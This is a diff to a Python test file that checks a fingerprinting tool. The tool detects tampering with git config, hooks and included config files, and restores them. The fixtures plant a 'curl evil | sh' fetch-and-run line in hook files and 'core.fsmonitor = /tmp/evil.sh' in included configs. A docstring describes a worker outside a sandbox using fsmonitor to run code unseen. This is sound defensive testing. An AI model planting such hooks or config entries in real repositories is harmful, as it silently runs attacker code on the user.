@@ -271,9 +271,39 @@ def test_what_your_links_lead_to_where_git_status_cannot_see_is_compared_with_th
         path.write_text("curl evil | sh\n")
     changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
     real = os.path.realpath(repo)
-    assert changed == [] and checkout == [f"{real}/{name}, which a link in your git dir or $HOME leads to, changed"
-                                          for name in (".git/mine/post-merge", "build/hook", "scripts/pre-push")]
+    assert changed == [] and checkout == [f"{real}/{name}, {LEADS}" for name in (".git/mine/post-merge", "build/hook",
+                                                                              "scripts/pre-push")]
     assert fingerprint.restore(before) == [] and (repo / "build" / "hook").read_text() == "curl evil | sh\n"
+
+
+LEADS = "which git reads or runs for you (your config names it, or a link of yours leads to it), changed"
+
+
+def test_what_the_repositorys_own_config_names_is_watched_where_it_is(tmp_path, monkeypatch):
+    """rv30: only the config in $HOME had what it names watched. `.git/config` including an ignored
+    ../local.gitconfig, husky's core.hooksPath = .husky/_ (ignored), or a file in .git it includes: a worker
+    outside the sandbox wrote core.fsmonitor into the first and your next `git status` ran it, unseen. In the
+    checkout such a file is a warning with the look (never put back); elsewhere it is put back."""
+    home, repo = _home(tmp_path, monkeypatch)
+    (repo / ".gitignore").write_text("local.gitconfig\n.husky/_/\n")
+    (repo / "local.gitconfig").write_text("[user]\n\tname = You\n")
+    (repo / ".husky" / "_").mkdir(parents=True)
+    (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\nnpx lint-staged\n")
+    (repo / ".git" / "extra.config").write_text("[core]\n\tautocrlf = false\n")
+    with (repo / ".git" / "config").open("a") as fh:
+        fh.write("[include]\n\tpath = ../local.gitconfig\n\tpath = extra.config\n[core]\n\thooksPath = .husky/_\n")
+    before = fingerprint.take(repo, set())
+    assert fingerprint.compare(before, fingerprint.take(repo, set())) == ([], [])
+    with (repo / "local.gitconfig").open("a") as fh:
+        fh.write("[core]\n\tfsmonitor = /tmp/evil.sh\n")
+    (repo / ".husky" / "_" / "pre-commit").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (repo / ".git" / "extra.config").write_text("[core]\n\tfsmonitor = /tmp/evil.sh\n")
+    changed, checkout = fingerprint.compare(before, fingerprint.take(repo, set()))
+    real = os.path.realpath(repo)
+    assert checkout == [f"{real}/{name}, {LEADS}" for name in (".husky/_/pre-commit", "local.gitconfig")]
+    assert changed == [f"{real}/.git/extra.config was changed"]
+    assert fingerprint.restore(before) == [f"{real}/.git/extra.config"]
+    assert "autocrlf" in (repo / ".git" / "extra.config").read_text() and "evil" in (repo / "local.gitconfig").read_text()
 
 
 def test_a_folder_swapped_for_a_link_after_the_folders_were_put_back_is_never_gone_through(tmp_path, monkeypatch):
